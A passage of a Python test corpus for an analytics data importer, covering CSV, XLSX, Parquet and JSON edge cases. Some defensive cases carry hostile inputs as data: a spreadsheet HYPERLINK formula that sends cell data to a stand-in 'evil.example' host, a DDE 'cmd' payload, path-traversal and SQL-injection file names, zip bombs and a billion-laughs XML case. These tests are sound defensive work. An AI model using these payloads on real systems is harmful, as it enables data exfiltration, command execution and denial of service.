            "C3;2025-04-03;7.25\n"
            "C4;2025-04-04;3,5\n"  # a comma where the column uses a decimal point: 3.5, never 35
            "C5;2025-04-05;1,234\n"
        ),  # a thousands separator
        kind="orders",
        delimiter=";",
        read=5,
        loaded=5,
        query=ORDERS_Q,
        rows=[
            ("C1", D(2025, 4, 1), 12.5),
            ("C2", D(2025, 4, 2), 1234.5),
            ("C3", D(2025, 4, 3), 7.25),
            ("C4", D(2025, 4, 4), 3.5),
            ("C5", D(2025, 4, 5), 1234.0),
        ],
    ),
    Case(
        "decimal_comma_column_with_point_thousands",
        text(
            "customer_id;order_date;amount\n"
            "C1;2025-04-01;12,50\n"
            "C2;2025-04-02;7,25\n"
            "C3;2025-04-03;1.234\n"  # German/Excel thousands in a decimal-comma column: 1234, never 1.234
            "C4;2025-04-04;1.234,50\n"
        ),
        kind="orders",
        delimiter=";",
        read=4,
        loaded=4,
        query=ORDERS_Q,
        rows=[
            ("C1", D(2025, 4, 1), 12.5),
            ("C2", D(2025, 4, 2), 7.25),
            ("C3", D(2025, 4, 3), 1234.0),
            ("C4", D(2025, 4, 4), 1234.5),
        ],
    ),
    Case(
        "tab_delimited",
        text(
            "event_time\tvisitor_id\tevent_name\tpage\n"
            "2025-03-01 10:00:00\tv1\tpage_view\t/a,b;c|d\n"
            "2025-03-01 10:01:00\tv2\tclick\n"
            '2025-03-01 10:02:00\tv3\tclick\t"/quoted\ttab"\n'
        ),
        kind="events",
        delimiter="\t",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((3, "page", "fewer fields"),),
        query=EVENTS_Q,
        rows=[
            (D(2025, 3, 1, 10, 0), "v1", "page_view", "/a,b;c|d"),
            (D(2025, 3, 1, 10, 2), "v3", "click", "/quoted\ttab"),
        ],
    ),
    Case(
        "pipe_delimited",
        text(
            "event_time|visitor_id|event_name|page\n"
            "2025-03-01 10:00:00|v1|page_view|/a,b;c\n"
            '2025-03-01 10:01:00|v2|click|"/x|y"\n'
            "x|v3|click|/z\n"
        ),
        kind="events",
        delimiter="|",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((4, "event_time", "not a date"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a,b;c"), (D(2025, 3, 1, 10, 1), "v2", "click", "/x|y")],
    ),
    Case(
        "day_first_dates",
        text(
            "customer_id,order_date,amount\n"
            "C1,31/12/2025,10\n"
            "C2,01/02/2025,20\n"
            "C3,13/01/2025 14:30,5\n"
            "C4,05.03.2025,7\n"
        ),
        kind="orders",
        read=4,
        loaded=4,
        query=ORDERS_Q,
        rows=[
            ("C1", D(2025, 12, 31), 10.0),
            ("C2", D(2025, 2, 1), 20.0),
            ("C3", D(2025, 1, 13, 14, 30), 5.0),
            ("C4", D(2025, 3, 5), 7.0),
        ],
    ),
    Case(
        "two_digit_years",
        text("customer_id,order_date,amount\nC1,28/02/25,1\nC2,31/12/24 18:05,2\n"),
        kind="orders",
        read=2,
        loaded=2,
        query=ORDERS_Q,
        rows=[("C1", D(2025, 2, 28), 1.0), ("C2", D(2024, 12, 31, 18, 5), 2.0)],
    ),
    Case(
        "month_first_dates",
        text(
            "customer_id,order_date,amount\n"
            "C1,12/31/2025,10\n"
            "C2,01/02/2025,20\n"
            "C3,01/13/2025 14:30,5\n"
            "C4,13/13/2025,5\n"
            "C5,1/5/2025 2:30 PM,6\n"
        ),
        kind="orders",
        read=5,
        loaded=4,
        rejected=1,
        rejects=((5, "order_date", "not a date"),),
        query=ORDERS_Q,
        rows=[
            ("C1", D(2025, 12, 31), 10.0),
            ("C2", D(2025, 1, 2), 20.0),
            ("C3", D(2025, 1, 13, 14, 30), 5.0),
            ("C5", D(2025, 1, 5, 14, 30), 6.0),
        ],
    ),
    Case(
        "ga4_microsecond_epoch_timestamps",
        text(
            "event_date,event_timestamp,event_name,user_pseudo_id,ga_session_id,page_location\n"
            "20250101,1735689600123456,page_view,1234567890.1735689600,1735689600,https://exemple.fr/\n"
            "20250101,1735689661000001,purchase,1234567890.1735689600,1735689600,https://exemple.fr/merci\n"
            "20250101,17356896001234567,click,222.333,1735689700,https://exemple.fr/x\n"
        ),
        kind="events",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((4, "event_timestamp", "not a date"),),
        query="select event_time, visitor_id, event_name, session_id, page from events where import_id = $id "
        "order by rowid",
        # epochs are UTC instants, stored as Paris wall-clock time (+1 h on 1 January)
        rows=[
            (D(2025, 1, 1, 1, 0, 0, 123456), "1234567890.1735689600", "page_view", "1735689600", "https://exemple.fr/"),
            (D(2025, 1, 1, 1, 1, 1, 1), "1234567890.1735689600", "purchase", "1735689600", "https://exemple.fr/merci"),
        ],
    ),
    Case(
        "ga4_ui_export_with_comment_lines",
        text(
            "# ----------------------------------------\n"  # 1
            "# Exploration libre\n"  # 2
            "# Propriété : Boutique (123456789)\n"  # 3
            "# Date de début : 20250101\n"  # 4
            "# Date de fin : 20250131\n"  # 5
            "# ----------------------------------------\n"  # 6
            "\n"  # 7
            "Date,Event name,Client ID,Page path,Event count\n"  # 8
            "20250101,page_view,111.222,/home,3\n"  # 9
            "20250102,add_to_cart,111.222,/produit,1\n"  # 10
            "2025013X,purchase,333.444,/merci,1\n"
        ),  # 11
        kind="events",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((11, "Date", "not a date"),),
        query=EVENTS_Q,
        rows=[(D(2025, 1, 1), "111.222", "page_view", "/home"), (D(2025, 1, 2), "111.222", "add_to_cart", "/produit")],
        check=check_properties([{"Event count": "3"}, {"Event count": "1"}]),
    ),
    Case(
        "formula_injection_cells_stay_plain_text",
        text(
            E_HEADER + "\n"
            '2025-03-01 10:00:00,v1,click,"=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")"\n'
            "2025-03-01 10:01:00,v2,click,=1+1\n"
            "2025-03-01 10:02:00,v3,+33 6 12 34 56 78,@SUM(A1:A2)\n"
            "2025-03-01 10:03:00,-2+3,=cmd|' /C calc'!A0,/d\n"
        ),
        kind="events",
        read=4,
        loaded=4,
        query=EVENTS_Q,
        rows=[
            (D(2025, 3, 1, 10, 0), "v1", "click", '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez")'),
            (D(2025, 3, 1, 10, 1), "v2", "click", "=1+1"),
            (D(2025, 3, 1, 10, 2), "v3", "+33 6 12 34 56 78", "@SUM(A1:A2)"),
            (D(2025, 3, 1, 10, 3), "-2+3", "=cmd|' /C calc'!A0", "/d"),
        ],
    ),
    Case(
        "nps_out_of_range_and_words",
        text(
            "date,nps,commentaire\n"
            "2025-05-01,9,Très bien\n"
            "2025-05-02,11,\n"
            "2025-05-03,dix,Bof\n"
            "2025-05-04,10,\n"
            "2025-05-05,0,Nul\n"
            "2025-05-06,-1,\n"
            "2025-05-07,7.5,\n"
            "2025-05-08,,\n"
        ),
        kind="responses",
        read=8,
        loaded=4,  # "dix" with a comment: the answer loads without its score (its cell is listed, code no_score)
        rejected=4,
        rejects=(
            (3, "nps", "outside the accepted range 0–10"),
            (4, "nps", "loaded without it"),
            (7, "nps", "outside the accepted range"),
            (8, "nps", "not a whole number"),
            (9, "nps, commentaire", "no score and no comment"),
        ),
        query="select responded_at, nps, comment from responses where import_id = $id order by rowid",
        rows=[
            (D(2025, 5, 1), 9.0, "Très bien"),
            (D(2025, 5, 3), None, "Bof"),
            (D(2025, 5, 4), 10.0, None),
            (D(2025, 5, 5), 0.0, "Nul"),
        ],
        check=check_responses_scales,
    ),
    Case(
        "long_quoted_field_over_128kb",
        long_field,
        kind="events",
        read=4,
        loaded=2,
        rejected=2,
        rejects=((4, "event_name", "fewer fields"), (5, "event_time", "not a date")),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"), (D(2025, 3, 1, 10, 1), "v2", "avis", LONG_TEXT)],
    ),
    Case(
        "line_longer_than_8mb",
        over_8mb_line,
        kind="events",
        read=4,
        loaded=2,
        rejected=2,
        rejects=((3, "", "longer than 8 MB"), (5, "event_time", "not a date")),
        # by time, not rowid: on a DuckLake the rows of this file (read in two passes) come back in another order
        query=EVENTS_Q.replace("order by rowid", "order by event_time"),
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a"), (D(2025, 3, 1, 10, 2), "v3", "click", "/c")],
    ),
    Case(
        "more_rejects_than_a_report_lists",
        many_rejects,
        kind="events",
        read=N_MANY,
        loaded=N_MANY // 2,
        rejected=N_MANY // 2,
        rejects=tuple((i + 2, "event_time", "not a date") for i in range(1, N_MANY, 2)),
        query="select count(*), min(visitor_id), max(page) from events where import_id = $id",
        rows=[(N_MANY // 2, "v0", "/p998")],
    ),
    Case(
        "excel_trailing_empty_rows",
        text(
            "customer_id;order_date;amount;status\r\n"  # 1
            "C1;01/03/2025;10,5;ok\r\n"  # 2
            ";;;\r\n"  # 3 an empty row: skipped
            "C2;02/03/2025;x;ok\r\n"  # 4 bad amount
            "  ;  ; ;\r\n"  # 5 spaces only: skipped
            "C3;03/03/2025;7;ok\r\n"  # 6
            ";;;\r\n;;;\r\n"
        ),  # 7, 8
        kind="orders",
        delimiter=";",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((4, "amount", "not a number"),),
        query=ORDERS_Q,
        rows=[("C1", D(2025, 3, 1), 10.5), ("C3", D(2025, 3, 3), 7.0)],
    ),
    Case(
        "leading_zero_ids_stay_text",
        text("customer_id,code_postal,age\n00123,01000,042\n0,75001,7\n"),
        kind="customers",
        read=2,
        loaded=2,
        query="select customer_id, age from customers where import_id = $id order by rowid",
        rows=[("00123", 42), ("0", 7)],
    ),
    Case(
        "epoch_seconds_and_milliseconds",
        text(E_HEADER + "\n1735689600,v1,a,/a\n1735689600123,v2,b,/b\n1735689600123456,v3,c,/c\n"),
        kind="events",
        read=3,
        loaded=3,
        query=EVENTS_Q,
        rows=[
            (D(2025, 1, 1, 1), "v1", "a", "/a"),
            (D(2025, 1, 1, 1, 0, 0, 123000), "v2", "b", "/b"),
            (D(2025, 1, 1, 1, 0, 0, 123456), "v3", "c", "/c"),
        ],
    ),  # UTC instants → Paris time
    Case(
        "utf8_bom_with_a_latin1_byte",
        lambda: (
            codecs.BOM_UTF8
            + (E_HEADER + "\n").encode()
            + b"2025-03-01 10:00:00,v1,a,/a\n2025-03-01 10:01:00,v2,b,/caf\xe9\n2025-03-01 10:02:00,v3,c,/c\n"
        ),
        kind="events",
        encoding="utf-8-sig",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((3, "page", "not valid text"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "a", "/a"), (D(2025, 3, 1, 10, 2), "v3", "c", "/c")],
    ),
    Case(
        "invalid_utf8_in_an_unmapped_column",
        lambda: (
            b"customer_id,order_date,amount,note\n"
            b"C1,2025-03-01,10,ok\n"
            b"C2,2025-03-02,20,d\xe9j\xe0 vu\n"
            b"C3,2025-03-03,30,\xc3\xa9t\xc3\xa9\n"
        ),
        kind="orders",
        encoding="utf-8",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((3, "note", "not valid text"),),
        query=ORDERS_Q,
        rows=[("C1", D(2025, 3, 1), 10.0), ("C3", D(2025, 3, 3), 30.0)],
    ),
    refused(  # Plausible's daily export (tester 7): its "visitors" count was taken for a visitor id, as events
        "plausible_daily_totals",
        text(
            "date,visitors,pageviews,bounce_rate,visit_duration,visits\n"
            "2026-10-01,118,335,33,101,169\n2026-10-02,292,570,30,91,174\n"
        ),
        "report of totals",
        "pageviews, bounce_rate, visit_duration",
        "raw data",
    ),
    # ---- not a data export
    refused("png_renamed_csv", png, "not a data export", "csv"),
    refused("pdf_renamed_csv", pdf, "not a data export", "csv"),
    refused("random_binary_renamed_csv", random_binary, "binary", "csv"),
    refused("gzip_renamed_csv", gzip_csv, "not a data export", "csv"),
    refused("zip_of_a_csv_named_xlsx", zip_of_csv, "zip archive", "unzip", file_name="export.xlsx"),
    # ---- XLSX
    refused("zip_bomb_disguised_as_xlsx", zip_bomb, "zip bomb", "csv", file_name="rapport.xlsx", bomb=True),
    refused("encrypted_xlsx_ole_header", encrypted_xlsx, "password", file_name="protégé.xlsx"),
    refused("truncated_xlsx", lambda: openpyxl_bytes({"Data": ORDERS_SHEET})[:700], "damaged", file_name="coupé.xlsx"),
    refused(
        "zip_bomb_with_lying_sizes", lying_zip_bomb, "workbook", "csv", file_name="menteur.xlsx", timeout=60, bomb=True
    ),
    refused(
        "xlsx_with_damaged_sheet_xml", damaged_sheet_xml, "cannot be read", "save it again", file_name="abîmé.xlsx"
    ),
    Case(
        "xlsx_named_csv",
        lambda: openpyxl_bytes({"Données": ORDERS_SHEET}),
        file_name="commandes.csv",
        kind="orders",
        sheet="Données",
        read=4,
        loaded=3,
        rejected=1,
        rejects=((5, "Montant TTC", "not a number"),),
        query=ORDERS_STATUS_Q,
        rows=_orders_sheet_rows,
    ),
    Case(
        "csv_named_xlsx",
        text("customer_id,order_date,amount\nC1,2025-04-01,10\n"),
        file_name="commandes.xlsx",
        kind="orders",
        read=1,
        loaded=1,
        query=ORDERS_Q,
        rows=[("C1", D(2025, 4, 1), 10.0)],
    ),
    Case(
        "xlsx_table_starting_at_row_3",
        lambda: xlsx_bytes(
            {
                "Export": [
                    [],
                    [],
                    ["customer_id", "order_date", "amount"],
                    ["C1", "2025-04-01", 10],
                    [],
                    ["C2", "2025-04-02", "dix"],
                    ["C3", "2025-04-03", 2.5],
                ]
            }
        ),
        file_name="décalé.xlsx",
        kind="orders",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((6, "amount", "not a number"),),
        query=ORDERS_Q,
        rows=[("C1", D(2025, 4, 1), 10.0), ("C3", D(2025, 4, 3), 2.5)],
    ),
    Case(
        "xlsx_data_on_second_sheet_after_notes",
        lambda: openpyxl_bytes({"Notes": NOTES_SHEET, "Données": ORDERS_SHEET}),
        file_name="commandes.xlsx",
        kind="orders",
        sheet="Données",
        read=4,
        loaded=3,
        rejected=1,
        rejects=((5, "Montant TTC", "not a number"),),
        query=ORDERS_STATUS_Q,
        rows=_orders_sheet_rows,
    ),
    Case(
        "xlsx_second_sheet_chosen_explicitly",
        lambda: openpyxl_bytes({"Notes": NOTES_SHEET, "Données": ORDERS_SHEET}),
        file_name="commandes.xlsx",
        kwargs={"sheet": "Données"},
        kind="orders",
        sheet="Données",
        read=4,
        loaded=3,
        rejected=1,
        rejects=((5, "Montant TTC", "not a number"),),
        query=ORDERS_STATUS_Q,
        rows=_orders_sheet_rows,
    ),
    Case(
        "xlsx_notes_sheet_chosen_explicitly",
        lambda: openpyxl_bytes({"Notes": NOTES_SHEET, "Données": ORDERS_SHEET}),
        file_name="commandes.xlsx",
        kwargs={"sheet": "Notes"},
        error=MappingError,
        words=("cannot tell", "choose its kind"),
    ),
    refused(
        "xlsx_sheet_that_does_not_exist",
        lambda: openpyxl_bytes({"Notes": NOTES_SHEET, "Données": ORDERS_SHEET}),
        "no sheet 'feuil9'",
        "données",
        "pick one",
        file_name="commandes.xlsx",
        kwargs={"sheet": "Feuil9"},
    ),
    Case(
        "xlsx_formulas_give_cached_values",
        lambda: xlsx_bytes(
            {
                "Commandes": [
                    ["customer_id", "order_date", "amount", "status", "discount"],
                    [
                        "C1",
                        ('TEXT(DATE(2025,1,2),"yyyy-mm-dd")', "2025-01-02"),
                        ("2*21", 42),
                        ('"ok"&""', "ok"),
                        ("A1*0", 0),
                    ],
                    [
                        "C2",
                        "2025-01-03",
                        ("SUM(10.25,0.25)", 10.5),
                        ('HYPERLINK("http://x.example","lien")', "lien"),
                        1.5,
                    ],
                ]
            }
        ),
        file_name="formules.xlsx",
        kind="orders",
        sheet="Commandes",
        read=2,
        loaded=2,
        query="select customer_id, order_time, amount, status, discount from orders where import_id = $id "
        "order by rowid",
        rows=[("C1", D(2025, 1, 2), 42.0, "ok", 0.0), ("C2", D(2025, 1, 3), 10.5, "lien", 1.5)],
    ),
    refused(
        "xlsx_billion_laughs_in_sheet_xml",
        lambda: xlsx_bytes(
            {"Data": [["customer_id", "order_date", "amount"], ["&lol9;", "2025-01-01", 1]]},
            doctype=BILLION_LAUGHS,
            raw_cells=True,
        ),
        "workbook",
        "csv",
        file_name="lol.xlsx",
        timeout=60,
        bomb=True,
    ),
    refused("xlsx_empty_sheet", lambda: xlsx_bytes({"Vide": []}), "empty", "sheet", file_name="vide.xlsx"),
    # ---- columnar and JSON
    Case(
        "parquet_file",
        lambda: _parquet(),
        file_name="events.parquet",
        kind="events",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((3, "visitor_id", "no visitor id and no customer id"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/é"), (D(2025, 3, 1, 10, 1, 30), "v2", "click", None)],
        check=check_properties([{"qty": "3"}, {"qty": None}]),
    ),
    Case(
        "ndjson_file",
        text(
            '{"event_time": "2025-03-01T10:00:00", "visitor_id": "v1", "event_name": "page_view", "page": "/é"}\n'
            '{"event_time": "2025-03-01T10:01:00", "visitor_id": "v2", "event_name": "click", "page": "/b",'
            ' "params": {"x": 1}}\n'
            '{"event_time": "not a time", "visitor_id": "v3", "event_name": "click", "page": "/c"}\n'
        ),
        file_name="events.ndjson",
        kind="events",
        read=3,
        loaded=2,
        rejected=1,
        rejects=((3, "event_time", "not a date"),),
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/é"), (D(2025, 3, 1, 10, 1), "v2", "click", "/b")],
        # a nested object is flattened into columns of its own, kept as properties
        check=check_properties([{"params_x": None}, {"params_x": "1"}]),
    ),
    Case(
        "json_array_file",
        text(
            json.dumps(
                [
                    {"customer_id": "C1", "order_date": "2025-04-01", "amount": 10.5},
                    {"customer_id": "C2", "order_date": "2025-04-02", "amount": "12.5 €"},
                    {"customer_id": None, "order_date": "2025-04-03", "amount": 3},
                ],
                indent=2,
            )
        ),
        file_name="orders.json",
        kind="orders",
        read=3,
        loaded=3,
        rejected=0,
        query=ORDERS_Q,  # the order with no customer is a guest order: kept
        rows=[("C1", D(2025, 4, 1), 10.5), ("C2", D(2025, 4, 2), 12.5), (None, D(2025, 4, 3), 3.0)],
    ),
    refused(
        "ndjson_with_a_broken_line",
        text(
            '{"event_time": "2025-03-01T10:00:00", "visitor_id": "v1", "event_name": "a"}\n'
            '{"event_time": "2025-03-01T10:01:00", "visitor_id": "v2", "event_name": \n'
            '{"event_time": "2025-03-01T10:02:00", "visitor_id": "v3", "event_name": "c"}\n'
        ),
        "json",
        "export it again",
        file_name="events.ndjson",
    ),
    refused(
        "malformed_json",
        text('[{"event_time": "2025-03-01", "visitor_id": "v1",\n {"oops"'),
        "json",
        "export it again",
        file_name="cassé.json",
    ),
    # ---- duplicates and names
    Case("duplicate_file_is_skipped", text(DUP), before=preload_same, status="skipped", file_name="doublon.csv"),
    Case(
        "duplicate_file_replaced",
        text(DUP),
        before=preload_same,
        kwargs={"on_duplicate": "replace"},
        file_name="doublon.csv",
        kind="events",
        read=2,
        loaded=2,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "dup1", "page_view", "/a"), (D(2025, 3, 1, 10, 1), "dup2", "click", "/b")],
        check=check_replaced,
    ),
    Case(
        "duplicate_file_kept",
        text(DUP),
        before=preload_same,
        kwargs={"on_duplicate": "keep"},
        file_name="doublon.csv",
        kind="events",
        read=2,
        loaded=2,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "dup1", "page_view", "/a"), (D(2025, 3, 1, 10, 1), "dup2", "click", "/b")],
        check=check_kept,
    ),
    Case(
        "name_with_path_traversal_and_sql",
        text(E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/a\n"),
        file_name="innocent.csv",
        import_name="../../etc/x'; drop table events;--.csv",
        kind="events",
        read=1,
        loaded=1,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a")],
        check=check_literal_name,
    ),
    Case(
        "file_on_disk_named_with_sql_quotes",
        text(E_HEADER + "\n2025-03-01 10:00:00,v1,page_view,/a\n"),
        file_name="x'; drop table events;--.csv",
        kind="events",
        read=1,
        loaded=1,
        query=EVENTS_Q,
        rows=[(D(2025, 3, 1, 10, 0), "v1", "page_view", "/a")],
        check=check_literal_name,
    ),
]


def _parquet() -> bytes:
    import pandas as pd

    frame = pd.DataFrame(
        {
            "event_time": pd.to_datetime(["2025-03-01 10:00:00", "2025-03-01 10:01:30", "2025-03-01 10:02:00"]),
            "visitor_id": ["v1", "v2", None],
            "event_name": ["page_view", "click", "click"],
            "page": ["/é", None, "/c"],
            "qty": pd.array([3, None, 1], dtype="Int64"),
        }
    )
    buf = io.BytesIO()
    frame.to_parquet(buf, index=False)
    return buf.getvalue()


def by_name() -> dict[str, Case]:
    return {c.name: c for c in CASES}


if __name__ == "__main__":  # write the corpus out to look at it: python -m tests.corpus DIR
    import sys
    from pathlib import Path

    out = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus_out")
    out.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (out / f"{case.name}__{case.file_name.replace('/', '_')}").write_bytes(case.build())
    print(f"{len(CASES)} files in {out}")
